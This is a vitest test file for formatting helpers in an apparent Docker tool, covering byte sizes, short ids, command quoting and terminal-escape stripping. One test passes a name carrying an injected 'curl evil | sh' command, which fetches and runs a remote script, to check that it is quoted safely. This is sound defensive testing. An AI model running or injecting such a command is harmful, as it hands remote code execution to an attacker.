import { expect, test } from 'vitest';
import { dockerCommand, formatBytes, plainText, shortId } from './format';

test('sizes have units and about three digits, as docker images prints them', () => {
  expect(formatBytes(0)).toBe('0 B');
  expect(formatBytes(745)).toBe('745 B');
  expect(formatBytes(77_900_000)).toBe('77.9 MB');
  expect(formatBytes(999_999)).toBe('1.00 MB');
  expect(formatBytes(86_400_000_000)).toBe('86.4 GB');
  expect(formatBytes(99_960_000)).toBe('100 MB');
  expect(formatBytes(9_996)).toBe('10.0 kB');
});

test('ids are twelve characters without the algorithm', () => {
  expect(shortId(`sha256:${'ab'.repeat(32)}`)).toBe('abababababab');
});

test('a name of the node cannot make a shown command run something else', () => {
  expect(dockerCommand('rm', '-f', 'web')).toBe('docker rm -f web');
  expect(dockerCommand('rm', '-f', 'x; curl evil | sh')).toBe("docker rm -f 'x; curl evil | sh'");
});

test('terminal sequences and control characters leave the log text, tabs stay', () => {
  expect(plainText('\u001b[1;31mred\u001b[0m\tok\r')).toBe('red\tok');
  expect(plainText('\u001b]0;title\u0007shown')).toBe('shown');
  expect(plainText('a\u0008\u0000b')).toBe('ab');
});
